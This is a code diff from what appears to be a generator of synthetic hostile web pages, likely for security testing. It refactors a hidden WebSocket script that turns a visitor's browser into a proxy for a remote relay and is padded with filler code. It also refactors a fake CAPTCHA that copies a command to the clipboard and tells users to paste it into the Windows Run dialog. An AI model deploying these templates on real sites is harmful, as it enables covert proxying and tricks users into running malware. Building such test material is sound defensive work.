@@ -65,13 +65,9 @@ export const proxyTunnel: Content = {
         ? `https://${draw.pick(thirdParties.cdn)}/npm/${draw.hex(4)}@1.0.${index}/${fileName(draw, 'js')}`
         : `https://${draw.pick(thirdParties.analytics)}/a.js?id=${draw.hex(8)}`,
     )
-    plan.resources.set(
-      kit + file,
-      script(
-        () =>
-          fillerScript(draw.fork('around'), 8_000) +
-          style.render(
-            `
+    const text = lazy(() =>
+      style.render(
+        `
 var $socket=new WebSocket(${quoteSingle(`wss://${relay}${path}`)});
 $socket.onopen=function(){$socket.send(JSON.stringify({'type':'hello','version':'2.1','client':'web'}));};
 $socket.onmessage=function($event){
@@ -81,9 +77,12 @@ $socket.onmessage=function($event){
     return $answer.text().then(function($text){$socket.send(JSON.stringify({'id':$order.id,'status':$answer.status,'headers':{'content-type':$answer.headers.get('content-type')},'body':btoa(unescape(encodeURIComponent($text.slice(0,400))))}));});
   }).catch(function(){$socket.send(JSON.stringify({'id':$order.id,'error':'unreachable'}));});
 };`,
-            { isolate: true },
-          ),
+        { isolate: true },
       ),
+    )
+    plan.resources.set(
+      kit + file,
+      script(() => fillerScript(draw.fork('around'), 8_000) + text()),
     )
     plan.sockets.set(relay + path, (peer) => {
       let at = 0
@@ -119,7 +118,7 @@ export const fakeCaptcha: Content = {
 var $command=${quoteSingle(command)},$box=document.querySelector('.human-check');
 $box.querySelector('button').onclick=function(){
   navigator.clipboard.writeText($command);
-  $box.querySelector('ol').style.display='block';
+  $box.classList.add('open');
 };`,
         { isolate: true },
       ),
@@ -129,8 +128,9 @@ $box.querySelector('button').onclick=function(){
       script(() => text()),
     )
     addFrontPage(context, {
+      head: () => '<style>.human-check ol{display:none}.human-check.open ol{display:block}</style>',
       top: () =>
-        `<div class="human-check" style="border:1px solid #999;padding:20px;max-width:420px;background:#fff"><h2>Verify you are human</h2><button>I'm not a robot</button><ol style="display:none"><li>Press the Windows button + R</li><li>Press CTRL + V</li><li>Press Enter</li></ol></div>`,
+        `<div class="human-check" style="border:1px solid #999;padding:20px;max-width:420px;background:#fff"><h2>Verify you are human</h2><button>I'm not a robot</button><ol><li>Press the Windows button + R</li><li>Press CTRL + V</li><li>Press Enter</li></ol></div>`,
       bottom: () => `<script src="${file}"></script>`,
     })
   },
